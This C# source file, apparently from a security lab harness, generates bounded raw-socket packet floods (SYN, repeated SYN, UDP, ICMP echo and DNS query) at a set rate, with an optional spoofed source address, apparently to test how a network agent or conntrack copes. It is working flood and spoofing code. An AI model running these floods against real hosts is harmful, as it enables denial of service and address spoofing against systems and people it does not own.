using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Exeat.Linux;
using Exeat.Names;
using Exeat.Wire;

namespace Exeat.Lab.Attacks;

/// <summary>Floods of first packets, each from another source port, made by hand so that no kernel of the agent's slows them down. Bounded: the mark is the number, the name is <c>RATE[/SOURCE]</c>: how many a second, and whose
/// address they bear if not the agent's own.</summary>
internal static class Floods
{
    /// <summary>Writes packet number <paramref name="number"/> of a flood.</summary>
    public delegate int Writer(Address from, Address to, ushort port, int number, Span<byte> packet);

    public static async Task<bool> RunAsync(AttackTarget target, Writer write)
    {
        string[] given = target.Name.Split('/');
        int count = int.Parse(target.Canary, CultureInfo.InvariantCulture), rate = int.Parse(given[0], CultureInfo.InvariantCulture);
        Address from = given.Length > 1 ? Address.FromBytes(IPAddress.Parse(given[1]).GetAddressBytes()) : await OwnAddressAsync(target), to = Address.FromBytes(target.Address.GetAddressBytes());
        await SendAsync(count, rate, (number, packet) => write(from, to, (ushort)target.Port, number, packet));
        return true;
    }

    /// <summary>Sends so many packets at that rate, or as fast as it goes, and says how many were sent in how many milliseconds.</summary>
    public static async Task SendAsync(int count, int rate, Func<int, Span<byte>, int> write)
    {
        using var sender = new RawSender(0);
        byte[] packet = new byte[512];
        long start = TimeProvider.System.GetTimestamp();
        int refused = 0;
        for (int sent = 0; sent < count;)
        {
            int due = (int)Math.Min(count, TimeProvider.System.GetElapsedTime(start).TotalSeconds * rate);
            if (due <= sent) await Task.Delay(TimeSpan.FromMilliseconds(1), TimeProvider.System);
            for (; sent < due; sent++)
            {
                int length = write(sent, packet);
                if (sender.Send(packet.AsSpan(0, length)) != Errno.None) refused++;
            }
        }
        Console.WriteLine($"sent {count - refused}");
        Console.WriteLine($"took {(int)TimeProvider.System.GetElapsedTime(start).TotalMilliseconds}");
    }

    public static int Syn(Address from, Address to, ushort port, int number, Span<byte> packet) => PacketWriter.Write(
        new PacketDraft { Source = from, Destination = to, Protocol = IpProtocol.Tcp, SourcePort = PortOf(number), DestinationPort = port, Sequence = (uint)number * 7919, Flags = TcpFlags.Syn }, packet);

    /// <summary>One and the same SYN, as if it were sent again and again: what conntrack knows already is no new flow.</summary>
    public static int SameSyn(Address from, Address to, ushort port, int number, Span<byte> packet) => Syn(from, to, port, 0, packet);

    public static int Datagram(Address from, Address to, ushort port, int number, Span<byte> packet) => PacketWriter.Write(
        new PacketDraft { Source = from, Destination = to, Protocol = IpProtocol.Udp, SourcePort = PortOf(number), DestinationPort = port, Payload = "flood"u8 }, packet);

    public static int Echo(Address from, Address to, ushort port, int number, Span<byte> packet) => PacketWriter.Write(
        new PacketDraft
        {
            Source = from,
            Destination = to,
            Protocol = from.IsV4 ? IpProtocol.Icmp : IpProtocol.IcmpV6,
            IcmpType = from.IsV4 ? (byte)8 : (byte)128,
            IcmpRest = (uint)number,
            Payload = "flood"u8,
        },
        packet);

    public static int Question(Address from, Address to, ushort port, int number, Span<byte> packet)
    {
        ReadOnlySpan<byte> question = [(byte)(number >> 8), (byte)number, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 8, .. Encoding.ASCII.GetBytes($"{number:x8}"), 7, .. "example"u8, 0, 0, 1, 0, 1];
        return PacketWriter.Write(new PacketDraft { Source = from, Destination = to, Protocol = IpProtocol.Udp, SourcePort = PortOf(number), DestinationPort = port, Payload = question }, packet);
    }

    // Below the ports that the agent's kernel gives to honest sockets.
    private static ushort PortOf(int number) => (ushort)(1024 + number % 30_000);

    private static async Task<Address> OwnAddressAsync(AttackTarget target)
    {
        using var socket = new Socket(target.Family, SocketType.Dgram, ProtocolType.Udp);
        await socket.ConnectAsync(target.EndPoint);
        return Address.FromBytes(((IPEndPoint)socket.LocalEndPoint!).Address.GetAddressBytes());
    }
}
